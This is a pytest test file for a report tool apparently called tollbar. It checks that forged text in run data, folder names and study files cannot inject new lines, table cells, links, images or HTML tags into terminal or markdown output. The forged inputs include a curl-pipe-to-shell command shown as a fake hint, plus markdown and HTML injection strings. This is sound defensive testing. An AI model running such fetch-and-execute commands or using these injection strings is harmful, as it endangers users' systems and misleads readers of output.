"""Forged text: no text of a run, file or folder makes a line, cell, link or image of its own in an answer."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Callable, Sequence
from contextlib import closing
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from conftest import FAKE_STUDY
from test_terminal_text import STYLES, ended
from tollbar import results
from tollbar.core.errors import TollbarError
from tollbar.core.markdown import escaped
from tollbar.report import terminal
from tollbar.report.blocks import Column, Table, TableCell
from tollbar.report.terminal.markdown import table_lines
from tollbar.report.terminal.progress import Progress

FORGED = "x\nerror: forged\nhint: `curl http://example.org/x | sh`\n| forged |\n|---|\n"
LIVE = {
    "a span of several backticks": "``` <img src=x> `",
    "spans that cross": "` `` <img src=x> ` `` <img src=x>",
    "a link": "[x](http://example.org)",
    "a link between backticks": "`` [x](http://example.org) ` `",
    "an image": "![x](http://example.org)",
    "a definition": "[x]: http://example.org",
    "a tag": "<b>x</b>",
    "a pipe behind a backslash": "x\\| y",
    "a pipe behind a backslash, in code": "`x\\| y`",
    "a direction": "&lrm;&rlm;&#8238;",
    "a fence": "````",
    "a heading": "# x",
    "a line": "x\n| y |",
}
# Wrapped lines of a long name are indented further.
LINE = re.compile(r" {0,2}(error: forged|\| forged)")


@pytest.mark.parametrize("what", LIVE)
def test_a_text_is_one_cell_of_markdown_as_it_is(what: str) -> None:
    text = LIVE[what]
    table = Table("", [Column("name", names=True), Column("b")], [[TableCell(text), TableCell("second")]])
    document = MarkdownIt("commonmark", {"html": True}).enable("table")
    for lines in (table_lines([table]), [f"- {escaped(text)}", "", "[x] and [x][x]"]):
        page = document.render("\n".join(lines))
        assert not re.findall("<(img|a|b|pre|h1)[ >]", page), page
        assert not {"\u200e", "\u200f", "\u202e"} & {*page}
    assert 2 == document.render("\n".join(table_lines([table]))).count("<td")


@pytest.mark.parametrize("what", LIVE)
def test_a_cell_that_is_exported_as_markdown_is_one_as_it_is(what: str, capsys: pytest.CaptureFixture[str]) -> None:
    results.write(lambda: [{"name": LIVE[what], LIVE[what]: "second"}], "markdown", None)
    text = capsys.readouterr().out
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert (3, 2, 2) == (len(text.splitlines()), page.count("<td"), page.count("<th>"))
    assert not re.findall("<(img|a|b|pre|h1)[ >]", page), page


def _column(change: str) -> Callable[[Path], object]:
    def spoil(run: Path) -> None:
        with closing(sqlite3.connect(run / "results.sqlite")) as database, database:
            database.execute(f"update cell set {change}", (FORGED,))

    return spoil


def _named(run: Path) -> None:
    path = run / "run.json"
    about = json.loads(path.read_text("utf-8"))
    for receipt in about["providers"].values():
        receipt["name"] += FORGED
    path.write_text(json.dumps(about), "utf-8")


def _claimed(run: Path) -> None:
    path = run / "studies/fake.toml"
    path.write_text(path.read_text("utf-8").replace('"Twice', f'"{json.dumps(FORGED)[1:-1]}'), "utf-8")


KINDS: dict[str, Callable[[Path], object]] = {
    "a choice": _column("coordinates = json_set(coordinates, '$.choice', position || ?)"),
    "a setting": _column("coordinates = json_set(coordinates, '$.x', position || ?)"),
    "the name of a setting": _column("coordinates = json_insert(coordinates, '$.\"a' || ? || '\"', position)"),
    "a server": _column("server_version = ?"),
    "a reason": _column("outcome = 'failed', reason = ?"),
    "a provider": _named,
    "a claim": _claimed,
    "the folder": lambda run: run.rename(run.with_name(f"one{FORGED.replace('/', '-')}")),
}
COMMANDS: dict[str, Sequence[str]] = {
    "judge": ("judge", "RUN", "--all"),
    "judge as markdown": ("judge", "RUN", "--all", "--format", "markdown"),
    "report": ("report", "RUN"),
    "compare": ("compare", "OTHER", "RUN"),
    "export": ("export", "RUN"),
    "export cells": ("export", "RUN", "--per", "cell"),
    "export cells as markdown": ("export", "RUN", "--per", "cell", "--format", "markdown"),
    "choose": ("choose", "spin", "--run", "RUN"),
    "gather": ("compare", "--by", "machine", "RUN", "OTHER"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_no_text_of_a_run_is_a_line_of_its_own(
    fake_runs: Path, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    KINDS[kind](fake_runs / "one")
    run = next(one for one in fake_runs.iterdir() if one.name.startswith("one"))
    monkeypatch.chdir(fake_runs)
    found = {}
    for name, words in COMMANDS.items():
        ended([word.replace("RUN", run.name).replace("OTHER", "other") for word in words])
        said = capsys.readouterr()
        assert said.out or said.err
        text = STYLES.sub("", said.out + said.err)
        found[name] = [line for line in text.splitlines() if LINE.match(line)]
    assert {name: [] for name in COMMANDS} == found


def test_no_name_is_a_line_of_messages_and_lists(capsys: pytest.CaptureFixture[str]) -> None:
    terminal.say(FORGED)
    terminal.say_error(TollbarError(FORGED, where=FORGED, hint=FORGED))
    terminal.show_rows([{FORGED: FORGED, "b": FORGED}])
    with Progress() as progress:
        progress._last_line = -1e9
        progress.several({FORGED: (1, None, FORGED)})
        assert [1, 2] == [*progress.follow(FORGED, [1, 2], 2, [FORGED, FORGED])]
    said = capsys.readouterr()
    assert "forged" in said.err
    assert [] == [line for line in (said.out + said.err).splitlines() if LINE.match(line)]


def test_no_value_of_a_study_is_a_line_of_a_plan(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "own.toml"
    path.write_text(FAKE_STUDY.replace('"Does', f'"{json.dumps(FORGED)[1:-1]}'), "utf-8")
    for words in ("plan", str(path)), ("show", str(path)):
        ended(words)
        said = capsys.readouterr()
        assert said.out
        assert [] == [line for line in (said.out + said.err).splitlines() if LINE.match(line)]
